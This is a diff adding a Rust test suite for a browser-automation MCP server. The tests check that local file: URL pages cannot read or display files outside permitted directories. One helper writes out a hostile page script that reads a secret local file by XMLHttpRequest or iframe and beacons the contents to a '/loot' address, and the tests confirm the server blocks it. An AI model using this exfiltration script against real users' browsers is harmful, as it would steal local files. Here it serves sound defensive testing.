@@ -1,0 +1,146 @@
+//! Local files: what the person has on disk, and pages that want it.
+
+use serde_json::json;
+
+use crate::support::{Answer, Server, Site};
+
+const SECRET: &str = "the-key-to-everything";
+
+/// A directory outside of all that may be used, with a secret in it.
+fn outside() -> (tempfile::TempDir, String) {
+    let directory = tempfile::tempdir().unwrap();
+    let path = directory.path().join("secret.html");
+    std::fs::write(&path, format!("<title>Outside</title><h1>{SECRET}</h1>")).unwrap();
+    let url = format!("file://{}", path.display());
+    (directory, url)
+}
+
+/// A page that reads a URL by script and sends home what it got.
+fn thief(home: &Site, wanted: &str) -> String {
+    format!(
+        "<title>begun</title><iframe src='{wanted}'></iframe><script>
+            const tell = (how, what) => {{ document.title += ' ' + how; new Image().src = '{home}?' + encodeURIComponent(how + what) }};
+            try {{ const ask = new XMLHttpRequest(); ask.open('GET', '{wanted}', false); ask.send(); tell('read', ask.responseText) }}
+            catch {{ tell('refused', '') }}
+            onload = () => {{
+                try {{ tell('framed', frames[0].document.body.innerText) }} catch {{ tell('closed', '') }}
+            }};
+        </script>",
+        home = home.url("/loot")
+    )
+}
+
+fn is_safe(site: &Site) {
+    let requests = site.requests();
+    assert!(!requests.iter().any(|request| request.contains(SECRET)), "{requests:?}");
+}
+
+#[test]
+fn a_local_page_reads_no_other_file() {
+    let (site, (_directory, wanted)) = (Site::of(""), outside());
+    let mut server = Server::start(&["--allow-file-urls"]);
+    let page = server.file("page.html", &thief(&site, &wanted));
+    server.navigate(&format!("file://{}", page.display())).says_not(SECRET);
+    assert_eq!(server.evaluate("() => document.title"), "begun refused closed");
+    is_safe(&site);
+}
+
+#[test]
+fn a_downloaded_page_has_no_rights() {
+    let (site, (_directory, wanted)) =
+        (Site::of("<script>onload = () => { location = '/report' }</script>"), outside());
+    site.answer("/report", Answer::Download("report.html", thief(&site, &wanted).into_bytes()));
+    let mut server = Server::start(&["--allow-file-urls"]);
+    server.navigate(&site.url("/"));
+    let kept = server.working_directory().join(".viewpoint-mcp-screenshots/report.html");
+    let until = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    while !kept.exists() && std::time::Instant::now() < until {
+        server.snapshot();
+    }
+    assert!(kept.exists(), "it was not downloaded");
+    server.navigate(&format!("file://{}", kept.display()));
+    assert_eq!(server.evaluate("() => location.protocol + ' ' + origin"), "data: null");
+    assert!(server.evaluate("() => document.title").as_str().unwrap().starts_with("begun refused"));
+    is_safe(&site);
+}
+
+#[test]
+fn a_local_page_shows_no_file_outside() {
+    let (_directory, wanted) = outside();
+    let mut server = Server::start(&["--allow-file-urls"]);
+    let framed = server.file("framed.html", &format!("<h1>Framed</h1><iframe src='{wanted}'></iframe>"));
+    let linked = server.file("linked.html", &format!("<a href='{wanted}'>Go on</a>"));
+    let opened = server.file("opened.html", &format!("<a href='{wanted}' target=_blank rel=opener>Open</a>"));
+    let url = |path: &std::path::Path| format!("file://{}", path.display());
+
+    server.navigate(&url(&framed)).says("Framed").says_not(SECRET);
+    server.snapshot().says("(this frame shows a file that may not be opened)").says_not(SECRET);
+    server.call("browser_take_screenshot", json!({})).fails("outside of the directories");
+
+    server.navigate(&url(&linked));
+    let link = server.snapshot().reference("Go on");
+    let clicked = server.call("browser_click", json!({ "ref": link }));
+    assert!(!clicked.message.to_string().contains(SECRET), "{}", clicked.message);
+    everything_is_withheld(&mut server);
+
+    server.navigate(&url(&linked));
+    let went = json!({ "function": format!("() => {{ location = '{wanted}' }}") });
+    server.call("browser_evaluate", went);
+    server.call("browser_wait_for", json!({ "time": 0.5 }));
+    everything_is_withheld(&mut server);
+
+    server.navigate(&url(&opened));
+    let link = server.snapshot().reference("Open");
+    server.call("browser_click", json!({ "ref": link }));
+    server.call("browser_tabs", json!({ "action": "select", "index": 1 }));
+    let shown = server.call("browser_snapshot", json!({}));
+    assert!(!shown.message.to_string().contains(SECRET), "{}", shown.message);
+
+    // It goes on.
+    server.navigate(&url(&framed)).says("Framed");
+}
+
+fn everything_is_withheld(server: &mut Server) {
+    for (tool, arguments) in [
+        ("browser_snapshot", json!({})),
+        ("browser_evaluate", json!({ "function": "() => document.body.innerText" })),
+        ("browser_take_screenshot", json!({})),
+    ] {
+        let reply = server.call(tool, arguments);
+        reply.fails("outside of the directories whose files may be opened");
+        assert!(!reply.message.to_string().contains(SECRET), "{}", reply.message);
+    }
+}
+
+#[test]
+fn file_urls_are_off_unless_asked_for() {
+    let mut server = Server::start(&[]);
+    let page = server.file("page.html", "<h1>Here</h1>");
+    let url = format!("file://{}", page.display());
+    let refused = server.call("browser_navigate", json!({ "url": url }));
+    refused.fails("file: URLs are off").fails("--allow-file-urls");
+    server.call("browser_tabs", json!({ "action": "new", "url": url })).fails("file: URLs are off");
+
+    let root = tempfile::tempdir().unwrap();
+    std::fs::write(root.path().join("page.html"), "<h1>From a root</h1>").unwrap();
+    let mut server = Server::silent(&[]);
+    let roots = json!({ "roots": [{ "uri": format!("file://{}", root.path().display()) }] });
+    let client = json!({ "name": "suites", "version": "1" });
+    let params =
+        json!({ "protocolVersion": "2025-06-18", "capabilities": { "roots": {} }, "clientInfo": client });
+    server.request("initialize", params);
+    server.send(&json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }));
+    let asked = loop {
+        let (message, _) =
+            server.next_within(std::time::Duration::from_secs(10)).expect("a question for roots");
+        if message["method"] == "roots/list" {
+            break message["id"].clone();
+        }
+    };
+    server.send(&json!({ "jsonrpc": "2.0", "id": asked, "result": roots }));
+    server.navigate(&format!("file://{}/page.html", root.path().display())).says("From a root");
+    let page = server.file("page.html", "<h1>Here</h1>");
+    server
+        .call("browser_navigate", json!({ "url": format!("file://{}", page.display()) }))
+        .fails("file: URLs are off");
+}
